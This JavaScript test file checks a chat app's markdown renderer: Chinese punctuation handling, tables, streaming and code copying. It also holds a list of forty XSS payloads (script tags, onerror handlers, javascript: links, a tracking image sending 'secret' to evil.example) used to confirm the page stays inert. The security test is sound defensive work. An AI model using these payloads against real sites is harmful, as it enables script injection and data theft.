import assert from "node:assert/strict";
import { test } from "node:test";
import { settled, type, useBrowser, withPage } from "./harness.mjs";

useBrowser();

/** HTML of a text as the page renders it. */
const render = (page, text) => page.evaluate(async text => {
  const { lex, render } = await import("./markdown.js");
  const div = document.createElement("div");
  div.append(render(lex(text)));
  return div.innerHTML.trim();
}, text);

test("bold beside Chinese punctuation", () => withPage(async page => {
  const cases = {
    "**注意：**请看": "<strong>注意：</strong>请看",
    "他说**“你好”**。": "他说<strong>“你好”</strong>。",
    "这是**（重要）**内容": "这是<strong>（重要）</strong>内容",
    "**《红楼梦》**是小说": "<strong>《红楼梦》</strong>是小说",
    "**第一步：打开`文件`。**然后": "<strong>第一步：打开<code>文件</code>。</strong>然后",
    "**a**b": "<strong>a</strong>b",
    "**粗 *斜* 体**": "<strong>粗 <em>斜</em> 体</strong>",
    "a ** b ** c": "a ** b ** c",
    "`**不是**`": "<code>**不是**</code>",
    "2**3 和 4**5": "2<strong>3 和 4</strong>5",
  };
  for (const [text, html] of Object.entries(cases)) assert.equal(await render(page, text), `<p>${html}</p>`, text);
}));

test("addresses end before Chinese punctuation; only http, https and mailto become links", () => withPage(async page => {
  assert.match(await render(page, "见 http://a.com/路径。后面"), /href="http:\/\/a\.com\/[^"。]*"[^>]*>http:\/\/a\.com\/路径<\/a>。后面/);
  for (const bad of ["[x](javascript:alert(1))", "[x](data:text/html,x)", "[x](vbscript:x)", "<javascript:alert(1)>", "[x](file:///etc/passwd)"]) {
    assert.doesNotMatch(await render(page, bad), /href=/, bad);
  }
  assert.match(await render(page, "[x](https://a.com)"), /rel="noopener noreferrer"/);
}));

test("pictures from elsewhere are links, tables and lists are what they should be", () => withPage(async page => {
  const html = await render(page, "![cat](https://evil.example/p.png)");
  assert.doesNotMatch(html, /<img/);
  assert.match(html, /<a href="https:\/\/evil\.example\/p\.png"/);
  assert.match(await render(page, "|a|b|\n|-|-:|\n|1|2|"), /<div class="table-frame".*<td align="right">2<\/td>/s);
  assert.match(await render(page, "1. a\n   - b\n     - c\n2. d"), /<ol>\s*<li>a<ul>\s*<li>b<ul>\s*<li>c/);
  assert.match(await render(page, "5. e"), /<ol start="5">/);
  assert.match(await render(page, "- [x] done"), /☑ done/);
}));

const SAMPLES = [
  "# 标题\n\n段落一，有**粗体**和`代码`。\n\n- 一\n- 二\n  - 二点一\n\n    还是二点一\n- 三\n\n结束。",
  "text\n\n```java\nint x = 1; // **no**\n\nvoid f() {}\n```\n\nafter\n\n~~~\nplain\n~~~\n",
  "| a | b |\n|---|:-:|\n| 1 | **2** |\n| 3 | `4` |\n\n> quote\n> more\n\n---\n\nlast *line*",
  "1. one\n\n   para\n\n2. two\n   ```js\n   const a = `x`;\n   ```\n3. three",
  "half open ```` fence\n\n```python\nprint('never closed')\n\nstill code",
  "שלום עולם\n\nمرحبا **بك**\n\nmixed עברית and English 中文",
  "a\nb\n\n    indented code\n\n**注意：**看\n\n* x\n* y\n\n+ z",
  "Setext\n======\n\nTwo\n---\n\n- - nested\n\n***both***\n\n[link](http://a.com/x) and http://b.com/路径，后",
  "long line ".repeat(200) + "\n\n```\n" + "code\n".repeat(150) + "```\n",
];

test("streamed in random cuts and rendered at once are equal", () => withPage(async page => {
  const failures = await page.evaluate(async samples => {
    await import("./markdown.js");
    let seed = 20261126;
    const random = () => (seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648;
    const failures = [];
    for (const text of samples) {
      const whole = document.createElement("chat-text");
      document.body.append(whole);
      whole.value = { text, live: false };
      whole.renderWhole();
      for (let run = 0; run < 12; run++) {
        const grown = document.createElement("chat-text");
        document.body.append(grown);
        for (let at = 0; at < text.length;) {
          at = Math.min(text.length, at + 1 + Math.floor(random() * (run < 6 ? 6 : 60)));
          grown.value = { text: text.slice(0, at), live: true };
          grown.renderLive();
        }
        grown.value = { text, live: false };
        await new Promise(r => setTimeout(r, 20)); // grammars
        const plain = x => x.innerHTML.replace(/<\/?span[^>]*>/g, "").replace(/\s+/g, " ");
        if (plain(grown) !== plain(whole)) failures.push([text.slice(0, 40), run, plain(grown), plain(whole)]);
        grown.remove();
      }
      whole.remove();
    }
    return failures;
  }, SAMPLES);
  assert.deepEqual(failures, []);
}));

test("while text streams, marks that are still open do not flicker", () => withPage(async page => {
  const close = text => page.evaluate(async x => (await import("./markdown.js")).closeTail(x), text);
  assert.equal(await close("say **bo"), "say **bo**");
  assert.equal(await close("say **"), "say ");
  assert.equal(await close("run `ls"), "run `ls`");
  assert.equal(await close("text\n-"), "text\n");
  assert.equal(await close("see [docs](http://a.c"), "see docs");
  assert.equal(await close("```\nint **x"), "```\nint **x");
}));

test("code is coloured when its block is complete, its text unchanged, copied as it is", () => withPage(async (page, server) => {
  const code = "public int f(String s) { return 1 < 2 ? \"a&b\".length() : 0; }";
  server.behave.reply = () => "```java\n" + code + "\n```\n\nDone.";
  await type(page, "code");
  await settled(page);
  await page.waitForSelector(".code .hljs-keyword");
  assert.equal((await page.locator(".code code").textContent()).trim(), code);
  await page.locator(".code-copy").click();
  await page.getByText("Copied").waitFor();
  assert.equal((await page.evaluate(() => navigator.clipboard.readText())).trim(), code);
}, { permissions: ["clipboard-read", "clipboard-write"] }));

const PAYLOADS = [
  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<iframe src=javascript:alert(1)></iframe>",
  "<a href=javascript:alert(1)>x</a>", "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](java\nscript:alert(1))", "[x](&#106;avascript:alert(1))", "![x](javascript:alert(1))",
  "![x\" onerror=\"alert(1)](y)", "[a](x\"onmouseover=alert(1)//)", "<body onload=alert(1)>", "<style>@import 'http://evil.example/x.css'</style>", "<link rel=stylesheet href=http://evil.example/x.css>",
  "<base href=http://evil.example/>", "<meta http-equiv=refresh content='0;url=http://evil.example/'>", "<form action=http://evil.example><button>x</button></form>", "<input autofocus onfocus=alert(1)>",
  "<video src=http://evil.example/v onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<math><mtext><script>alert(1)</script></mtext></math>",
  "<details open ontoggle=alert(1)>", "<div style=background:url(http://evil.example/b)>x</div>", "```\"><script>alert(1)</script>\nx\n```", "```java onload=alert(1)\nx\n```", "`<script>alert(1)</script>`",
  "<!--><script>alert(1)</script>-->", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>", "<table background=http://evil.example/t><td>", "<p id=app></p><p name=live>",
  "<mark onclick=alert(1)>x</mark>", "<kbd style=position:fixed>x</kbd>", "![x](http://evil.example/leak.png?q=secret)", "${alert(1)}{{constructor.constructor('alert(1)')()}}", "\u202e<img/src=x/onerror=alert(1)>",
];

test("forty attacks in a question, an answer, a system prompt, a title and a file do nothing", () => withPage(async (page, server) => {
  assert.equal(PAYLOADS.length, 40);
  await page.evaluate(() => { window.alert = () => console.error("alert was called"); });
  const evil = PAYLOADS.join("\n\n");
  server.behave.reply = () => evil;
  server.behave.delay = 0;
  await page.locator(".top").getByRole("button", { name: "Parameters" }).click();
  await page.fill("#system", evil);
  await type(page, evil);
  await settled(page);
  await page.waitForTimeout(300);
  const found = await page.evaluate(() => ({
    bad: document.querySelectorAll(".thread script, .thread iframe, .thread form, .thread img, .thread object, .thread embed, .thread style, .thread link, .thread base, .thread [style]:not(textarea), .thread video").length,
    handlers: [...document.querySelectorAll(".prose *")].filter(e => [...e.attributes].some(a => /^on/i.test(a.name) || /^\s*javascript:/i.test(a.value))).length,
    ids: document.querySelectorAll(".prose [id], .prose [name]").length,
  }));
  assert.deepEqual(found, { bad: 0, handlers: 0, ids: 0 });
  await page.evaluate(async evil => {
    const { parse } = await import("./transfer.js");
    const { addConversations, toast } = await import("./store.js");
    const file = { format: "chuan-chat", version: 1, conversations: [{ id: "EVIL", title: evil, system: evil, params: { temperature: evil, stop: evil }, created: evil, updated: 1, leaf: "B",
      messages: [{ id: "A", parent: null, role: "user", content: evil }, { id: "B", parent: "A", role: "assistant", content: evil, model: evil, params: { seed: evil }, usage: { prompt_tokens: evil }, finish: evil,
        error: { kind: evil, text: evil }, tokens: { ids: [1], lp: [-1], pieces: [evil], alt: [[[1, -1, evil]]] } }] }] };
    await addConversations(parse(JSON.stringify(file), "x"));
    toast(evil);
    location.hash = "#/c/EVIL";
  }, evil);
  await page.waitForSelector("article.assistant .prose");
  await page.locator("article.assistant").hover();
  await page.locator("article.assistant").getByRole("button", { name: "Tokens", exact: true }).click();
  await page.waitForSelector("chat-tokens");
  await page.locator("article.assistant").getByRole("button", { name: "Details", exact: true }).click();
  await page.waitForTimeout(300);
  await page.goto(server.url + "#/c/%3Cimg%20src=x%20onerror=alert(1)%3E");
  await page.waitForTimeout(200);
}));
